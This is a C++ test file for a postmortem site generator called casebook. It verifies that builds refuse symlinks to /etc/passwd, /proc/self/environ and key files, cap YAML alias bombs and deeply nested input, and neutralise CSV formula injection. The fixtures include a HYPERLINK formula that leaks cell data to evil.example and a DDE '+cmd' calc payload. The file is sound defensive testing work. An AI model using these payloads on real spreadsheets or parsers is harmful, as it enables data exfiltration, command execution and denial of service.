// End-to-end: untrusted input, built and checked by the real binary.
// Symlinks that leave the site are never read (content, static, layouts,
// theme, archetypes; a linked folder), links that stay inside keep working;
// files over the [limits] are errors naming file:line and the limit, the
// rest of the archive still loads; actions.csv cells that a spreadsheet
// would run as formulas are neutralised.
#include <catch2/catch.hpp>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "test_support.h"

namespace fs = std::filesystem;
using casebook::test::RunCasebook;
using casebook::test::TempDir;

namespace {

const char* kSecret = "CASEBOOK-TEST-SECRET-7f3a";
const char* kToday = "--today 2024-06-01";

bool Contains(const std::string& haystack, const std::string& needle) {
  return haystack.find(needle) != std::string::npos;
}

void Link(const std::string& target, const std::string& link) {
  fs::create_directories(fs::path(link).parent_path());
  REQUIRE(::symlink(target.c_str(), link.c_str()) == 0);
}

// True when some file under `root` holds `text`.
bool AnyFileHolds(const std::string& root, const std::string& text) {
  if (!fs::exists(root)) return false;
  for (const auto& e : fs::recursive_directory_iterator(root)) {
    if (!e.is_regular_file()) continue;
    std::ifstream in(e.path(), std::ios::binary);
    std::stringstream ss;
    ss << in.rdbuf();
    if (Contains(ss.str(), text)) return true;
  }
  return false;
}

std::string Postmortem(const std::string& title) {
  return "+++\ntitle = \"" + title + "\"\ndate = 2024-03-12\nseverity = \"SEV2\"\n+++\n\n"
         "## Summary\n\nText.\n";
}

// A site in site/ with one good postmortem; outside/ beside it holds secrets.
struct Setup {
  TempDir dir;
  std::string site, outside;
  Setup() : site(dir.path() + "/site"), outside(dir.path() + "/outside") {
    dir.Write("site/site.toml", "title = \"T\"\nbase_url = \"/\"\n");
    dir.Write("site/content/2024/ok.md", Postmortem("Fine"));
    dir.Write("outside/secret.md", std::string("# Secret\n\n") + kSecret + "\n");
    dir.Write("outside/id_rsa", std::string("-----BEGIN KEY-----\n") + kSecret + "\n");
    dir.Write("outside/team/other.md", std::string("# Other\n\n") + kSecret + "\n");
  }
};

}  // namespace

TEST_CASE("build and check refuse links out of the site, naming link and target", "[site][inputs]") {
  Setup s;
  Link("/etc/passwd", s.site + "/content/x.md");
  Link("/proc/self/environ", s.site + "/content/env.md");
  Link(s.outside + "/secret.md", s.site + "/content/2024/secret.md");
  Link(s.outside + "/team", s.site + "/content/team");  // a folder
  Link(s.outside + "/id_rsa", s.site + "/static/k.txt");
  Link(s.outside + "/team", s.site + "/static/docs");  // a folder in static/
  Link(s.outside + "/id_rsa", s.site + "/content/key.txt");  // not a postmortem: never read

  auto build = RunCasebook(std::string("build ") + kToday, s.site);
  INFO(build.err);
  CHECK(build.exit_code == 1);
  for (const std::string& link : {"content/x.md", "content/env.md", "content/2024/secret.md",
                                  "content/team", "static/k.txt", "static/docs"})
    CHECK(Contains(build.err, link + ": error: content/outside-link: is a symbolic link to "));
  CHECK(Contains(build.err, "is a symbolic link to /etc/passwd, outside the site folder"));
  CHECK(Contains(build.err, "is a symbolic link to " + fs::canonical(s.outside).string() + "/team"));
  CHECK(Contains(build.err, "replace the link with a copy"));
  CHECK_FALSE(Contains(build.err, "content/key.txt"));
  CHECK_FALSE(Contains(build.err, "root:x:0"));  // /etc/passwd was not read
  CHECK_FALSE(Contains(build.err, kSecret));
  CHECK_FALSE(AnyFileHolds(s.site + "/public", kSecret));
  CHECK_FALSE(AnyFileHolds(s.site + "/.casebook", kSecret));

  auto check = RunCasebook(std::string("check ") + kToday, s.site);
  INFO(check.out);
  CHECK(check.exit_code == 1);
  const std::string all = check.out + check.err;
  for (const std::string& link : {"content/x.md", "content/env.md", "content/2024/secret.md",
                                  "content/team", "static/k.txt", "static/docs"})
    CHECK(Contains(all, link));
  CHECK(Contains(all, "content/outside-link"));
  CHECK_FALSE(Contains(all, kSecret));
}

TEST_CASE("a layout, a theme file or an archetype that links out is not read", "[site][inputs]") {
  Setup s;
  s.dir.Write("outside/page.mustache", std::string("<html>") + kSecret + "</html>");
  Link(s.outside + "/page.mustache", s.site + "/layouts/postmortem.mustache");
  fs::create_directories(s.site + "/themes");
  fs::copy(casebook::test::SourceDir() + "/themes/default", s.site + "/themes/default",
           fs::copy_options::recursive);
  Link(s.outside + "/id_rsa", s.site + "/themes/default/static/key.txt");
  Link(s.outside + "/secret.md", s.site + "/archetypes/postmortem.md");

  auto build = RunCasebook(std::string("build ") + kToday, s.site);
  INFO(build.err);
  CHECK(build.exit_code == 1);
  CHECK(Contains(build.err, "layouts/postmortem.mustache: error: content/outside-link: is a symbolic link to"));
  CHECK(Contains(build.err, "themes/default/static/key.txt: error: content/outside-link: is a symbolic link to"));
  CHECK(Contains(build.err, "archetypes/postmortem.md: error: content/outside-link: is a symbolic link to"));
  CHECK_FALSE(AnyFileHolds(s.site + "/public", kSecret));

  auto made = RunCasebook("new \"Checkout down\" --date 2024-03-12", s.site);
  CHECK(made.exit_code == 2);
  CHECK(Contains(made.err, "outside the site folder: it is not read"));
  CHECK_FALSE(AnyFileHolds(s.site + "/content", kSecret));
}

TEST_CASE("links that stay inside the site keep working", "[site][inputs]") {
  Setup s;
  s.dir.Write("site/shared/linked.md", Postmortem("Linked file"));
  s.dir.Write("site/archive/old/2019.md", Postmortem("Linked folder"));
  s.dir.Write("site/assets/logo.txt", "LOGO");
  Link("../../shared/linked.md", s.site + "/content/2024/linked.md");
  Link("../archive", s.site + "/content/older");
  Link("../assets/logo.txt", s.site + "/static/logo.txt");

  auto build = RunCasebook(std::string("build ") + kToday, s.site);
  INFO(build.err);
  REQUIRE(build.exit_code == 0);
  CHECK(Contains(build.out, "Wrote 3 postmortems"));
  CHECK(s.dir.Exists("site/public/postmortems/linked/index.html"));
  CHECK(s.dir.Exists("site/public/postmortems/2019/index.html"));
  CHECK(s.dir.Read("site/public/logo.txt") == "LOGO");
  auto check = RunCasebook(std::string("check ") + kToday, s.site);
  CHECK_FALSE(Contains(check.out + check.err, "outside-link"));
  CHECK(Contains(check.out, "checked 3 postmortems"));
}

TEST_CASE("a source folder named outside the site on purpose is read", "[site][inputs]") {
  Setup s;
  s.dir.Write("elsewhere/2024/far.md", Postmortem("Far away"));
  auto build = RunCasebook(std::string("build ") + kToday + " --source ../elsewhere", s.site);
  INFO(build.err);
  REQUIRE(build.exit_code == 0);
  CHECK(s.dir.Exists("site/public/postmortems/far/index.html"));
}

TEST_CASE("a content folder that is itself a link out of the site is refused", "[site][inputs]") {
  TempDir dir;
  dir.Write("site/site.toml", "title = \"T\"\nbase_url = \"/\"\n");
  dir.Write("outside/2024/leak.md", std::string("# Leak\n\n") + kSecret + "\n");
  Link(dir.path() + "/outside", dir.path() + "/site/content");
  auto build = RunCasebook(std::string("build ") + kToday, dir.path() + "/site");
  INFO(build.err);
  CHECK(build.exit_code == 1);
  CHECK(Contains(build.err, "content: error: content/outside-link: is a symbolic link to " +
                                fs::canonical(dir.path() + "/outside").string()));
  CHECK_FALSE(AnyFileHolds(dir.path() + "/site/public", kSecret));
}

namespace {

std::string Repeat(const std::string& s, int n) {
  std::string out;
  out.reserve(s.size() * static_cast<size_t>(n));
  for (int i = 0; i < n; ++i) out += s;
  return out;
}

// 9 lists of 9 aliases of the list above, 7 deep: 4.8 million strings.
std::string BillionLaughs() {
  std::string y = "---\ntitle: Laughs\na: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n";
  std::string prev = "a";
  for (const char* name : {"b", "c", "d", "e", "f", "g"}) {
    y += std::string(name) + ": &" + name + " [" + Repeat("*" + prev + ", ", 8) + "*" + prev + "]\n";
    prev = name;
  }
  return y + "---\n\n## Summary\n\nText.\n";
}

}  // namespace

TEST_CASE("hostile postmortems are errors naming file:line and the limit, the rest loads",
          "[site][inputs][limits]") {
  TempDir site;
  site.Write("site.toml", "title = \"T\"\nbase_url = \"/\"\n");
  site.Write("content/2024/ok.md", Postmortem("Fine"));
  // 50,000 parts: toml++ overflowed the stack (SIGSEGV) on this.
  site.Write("content/deep-key.md",
             "+++\ntitle = \"Deep\"\nx" + Repeat(".a", 50000) + " = 1\n+++\nBody\n");
  site.Write("content/laughs.md", BillionLaughs());
  site.Write("content/quotes.md", "# Quotes\n\nText.\n\n" + Repeat(">", 220000) + "\n");
  site.Write("content/images.md", "# Images\n\n" + Repeat("![[]()", 50000) + "\n");
  site.Write("content/table.md", "# Table\n\n|" + Repeat("a|", 3000) + "\n|" + Repeat("-|", 3000) +
                                     "\n" + Repeat("x\n", 3000));

  for (const char* command : {"build", "check"}) {
    auto r = RunCasebook(std::string(command) + " " + kToday, site.path());
    INFO(command << "\n" << r.out << r.err);
    CHECK(r.exit_code == 1);  // errors, not a crash (a signal gives -1 or 128+)
    const std::string all = r.out + r.err;
    CHECK(Contains(all, "content/deep-key.md:3: error: limits/nesting: TOML front matter nests "
                        "more than 100 levels deep"));
    CHECK(Contains(all, "content/laughs.md:8:"));  // the key whose aliases run over
    CHECK(Contains(all, "limits/front-matter: YAML front matter expands to more than 100000 values"));
    CHECK(Contains(all, "content/quotes.md:5: error: limits/nesting: block quotes and lists nest"));
    CHECK(Contains(all, "content/images.md:3: error: limits/nesting: unclosed link brackets"));
    CHECK(Contains(all, "content/table.md:3: error: limits/table-cells: this table has 3000 "
                        "columns and 3001 rows, 9003000 cells: over the limit of 100000"));
    CHECK(Contains(all, "[limits] max_nesting = 200"));  // how to raise it
  }
  // The good postmortem was still loaded and rendered: only publishing waits
  // for the errors to be fixed, as with any error.
  // (Its own findings are the usual lint: required sections, no actions.)
  auto check = RunCasebook(std::string("check ") + kToday + " content/2024", site.path());
  INFO(check.out << check.err);
  CHECK(check.exit_code == 1);
  CHECK(Contains(check.out + check.err, "checked 1 postmortem"));
  CHECK(Contains(check.out + check.err, "content/2024/ok.md:6:1: error: sections/missing"));
  CHECK_FALSE(Contains(check.out + check.err, "limits/"));
}

TEST_CASE("[limits] in site.toml lowers and raises the limits for build and check",
          "[site][inputs][limits]") {
  TempDir site;
  site.Write("site.toml",
             "title = \"T\"\nbase_url = \"/\"\n[limits]\nmax_file_bytes = 2000\n"
             "max_nesting = 5\nmax_table_cells = 11\n");
  site.Write("content/big.md", Postmortem("Big") + std::string(3000, 'x') + "\n");
  site.Write("content/quote.md", Postmortem("Quote") + "\n>>>>>> six\n");
  site.Write("content/table.md", Postmortem("Table") + "\n| a | b | c |\n|---|---|---|\n| 1 | 2 | 3 |\n"
                                                       "| 4 | 5 | 6 |\n| 7 | 8 | 9 |\n");
  site.Write("content/fine.md", Postmortem("Fine") + "\n>>>>> five\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
  auto low = RunCasebook(std::string("build ") + kToday, site.path());
  INFO(low.err);
  CHECK(low.exit_code == 1);
  CHECK(Contains(low.err, "content/big.md:1: error: limits/file-size: the file is 3"));
  CHECK(Contains(low.err, "over the limit of 2000 ([limits] max_file_bytes)"));
  CHECK(Contains(low.err, "content/quote.md:11: error: limits/nesting: block quotes and lists "
                          "nest more than 5 levels"));
  CHECK(Contains(low.err, "content/table.md:11: error: limits/table-cells: this table has 3 "
                          "columns and 4 rows, 12 cells: over the limit of 11"));
  CHECK_FALSE(Contains(low.err, "fine.md"));
  CHECK(RunCasebook(std::string("check ") + kToday, site.path()).exit_code == 1);

  site.Write("site.toml", "title = \"T\"\nbase_url = \"/\"\n[limits]\nmax_file_bytes = 2000\n"
                          "max_nesting = 6\nmax_table_cells = 12\n");
  auto mid = RunCasebook(std::string("build ") + kToday, site.path());
  CHECK(Contains(mid.err, "content/big.md:1: error: limits/file-size"));
  CHECK_FALSE(Contains(mid.err, "quote.md"));  // 6 levels now pass
  CHECK_FALSE(Contains(mid.err, "table.md"));  // and 12 cells

  site.Write("site.toml", "title = \"T\"\nbase_url = \"/\"\n");  // the defaults
  auto raised = RunCasebook(std::string("build ") + kToday, site.path());
  INFO(raised.err);
  CHECK(raised.exit_code == 0);
  CHECK(Contains(raised.out, "Wrote 4 postmortems"));

  site.Write("site.toml", "title = \"T\"\nbase_url = \"/\"\n[limits]\nmax_nesting = 0\nmax_tabel_cells = 5\n");
  auto bad = RunCasebook(std::string("build ") + kToday, site.path());
  CHECK(bad.exit_code != 0);
  CHECK(Contains(bad.err, "limits.max_nesting = 0: must be from 1 to 1000"));
  CHECK(Contains(bad.err, "did you mean `limits.max_table_cells`?"));
}

TEST_CASE("actions.csv neutralises cells a spreadsheet would run as formulas", "[site][inputs][csv]") {
  TempDir site;
  site.Write("site.toml", "title = \"T\"\nbase_url = \"/\"\n");
  site.Write("content/2024/pm.md",
             "+++\ntitle = \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"x\\\")\"\n"
             "date = 2024-03-12\nseverity = \"SEV2\"\n\n"
             "[[actions]]\ntext = \"+cmd|' /C calc'!A0\"\nowner = \"@owner\"\n"
             "due = 2024-07-01\nticket = \"-2+3\"\n\n"
             "[[actions]]\ntext = \"-- minus, with a comma\"\nowner = \"team\"\n"
             "due = 2024-07-02\nticket = \"OPS-1\"\n+++\n\n## Summary\n\nText.\n");
  auto r = RunCasebook(std::string("build ") + kToday, site.path());
  INFO(r.err);
  REQUIRE(r.exit_code == 0);
  const std::string csv = site.Read("public/actions.csv");
  INFO(csv);
  CHECK(Contains(csv, "pm,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","
                      "'+cmd|' /C calc'!A0,'@owner,2024-07-01,open,'-2+3,"));
  CHECK(Contains(csv, ",\"'-- minus, with a comma\",team,2024-07-02,open,OPS-1,"));
  CHECK(csv.rfind("postmortem_id,postmortem_title,text,owner,", 0) == 0);  // header as it was
}

TEST_CASE("check cannot be told to hide a file that build leaves out for safety", "[site][inputs][limits]") {
  Setup s;
  s.dir.Write("site/site.toml", "title = \"T\"\nbase_url = \"/\"\n[check]\n\"limits/nesting\" = \"off\"\n"
                                "\"content/outside-link\" = \"off\"\n");
  s.dir.Write("site/content/deep.md", "<!-- casebook-ignore-file -->\n# Deep\n\n" + Repeat(">", 500) + "\n");
  Link(s.outside + "/secret.md", s.site + "/content/secret.md");
  auto check = RunCasebook(std::string("check ") + kToday, s.site);
  INFO(check.out << check.err);
  CHECK(check.exit_code == 1);
  CHECK(Contains(check.out + check.err, "content/deep.md:4: error: limits/nesting"));
  CHECK(Contains(check.out + check.err, "content/secret.md: error: content/outside-link"));
  auto build = RunCasebook(std::string("build ") + kToday, s.site);
  CHECK(build.exit_code == 1);
}
